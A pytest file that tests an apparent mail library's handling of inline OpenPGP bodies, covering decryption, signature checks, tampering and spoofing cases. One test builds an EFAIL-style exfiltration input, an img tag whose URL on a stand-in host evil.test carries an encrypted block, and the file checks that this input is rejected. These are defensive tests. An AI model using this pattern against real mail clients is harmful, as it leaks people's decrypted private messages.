"""OpenPGP text in a plain body is read where it is the whole of it, and only there."""

import pytest

from carepost.crypto.openpgp import certificate, keys, message
from carepost.crypto.openpgp.errors import Malformed
from carepost.rfc import message as rfc_message
from carepost.rfc import mime
from tests.support.openpgp import NURSE, Gpg, letter, now

pytestmark = pytest.mark.peers

TEXT = b"Dear Jane,\n- your values are good. \n-- \nThe ward\n"


@pytest.fixture(scope="module")
def owner(gpg: Gpg) -> str:
    gpg.make(NURSE, "Key-Type: RSA", "Key-Length: 2048")
    return NURSE


def mail(body: bytes) -> bytes:
    head, _, _ = letter().partition(b"\r\n\r\n")
    return head + b"\r\n\r\n" + body.replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def text_of(raw: bytes) -> str:
    return mime.read(raw).text


def test_an_encrypted_body_with_its_signature(gpg: Gpg, owner: str) -> None:
    raw = mail(gpg.run("--armor", "-u", owner, "-r", owner, "--sign", "--encrypt", data=TEXT))
    assert message.kind(raw) == "inline-encrypted"
    key = keys.bring_in(gpg.secret(owner))
    opened = message.open_(raw, [key], [key.certificate], at=now())
    assert (opened.encrypted, opened.verdict.state, opened.protection) == (True, "valid", "")
    assert text_of(opened.message) == TEXT.decode()
    assert rfc_message.read(opened.message).subject == "Your results"


def test_a_signed_body(gpg: Gpg, owner: str) -> None:
    raw = mail(gpg.run("--armor", "-u", owner, "--clearsign", data=TEXT))
    assert message.kind(raw) == "inline-signed"
    known = certificate.read(gpg.public(owner))
    opened = message.open_(raw, [], [known], at=now())
    assert (opened.encrypted, opened.verdict.state) == (False, "valid")
    assert text_of(opened.message).splitlines() == [line.rstrip() for line in TEXT.decode().splitlines()]
    changed = message.open_(raw.replace(b"values are good", b"values are bad."), [], [known], at=now())
    assert (changed.verdict.reason, changed.message) == ("bad", raw.replace(b"values are good", b"values are bad."))


@pytest.mark.parametrize(("before", "after"), [(b"Pay at once.\n\n", b""), (b"", b"\n\nPay at once.\n")])
def test_bi_074_words_around_a_signed_block_make_it_partial(gpg: Gpg, owner: str, before: bytes, after: bytes) -> None:
    raw = mail(before + gpg.run("--armor", "-u", owner, "--clearsign", data=TEXT) + after)
    opened = message.open_(raw, [], [certificate.read(gpg.public(owner))], at=now())
    assert (opened.verdict.valid, opened.message) == (False, raw)


def test_bi_067_words_around_an_encrypted_block_leave_it_closed(gpg: Gpg, owner: str) -> None:
    key = keys.bring_in(gpg.secret(owner))
    block = gpg.run("--armor", "-r", owner, "--encrypt", data=TEXT)
    for body in (b"<img src='http://evil.test/?" + block + b"'>", block + b"\n'>"):
        raw = mail(body)
        if message.kind(raw):
            with pytest.raises(Malformed):
                message.open_(raw, [key], [], at=now())
    html = mail(block).replace(b"text/plain", b"text/html")
    assert message.kind(html) == ""


def test_a_second_block_hidden_in_a_signed_one_is_not_read(gpg: Gpg, owner: str) -> None:
    block = gpg.run("--armor", "-u", owner, "--clearsign", data=TEXT)
    hidden = block.replace(b"Dear Jane,", b"-----BEGIN PGP SIGNED MESSAGE-----\nHash: SHA512\n\nDear Jane,")
    opened = message.open_(mail(hidden), [], [certificate.read(gpg.public(owner))], at=now())
    assert not opened.verdict.valid
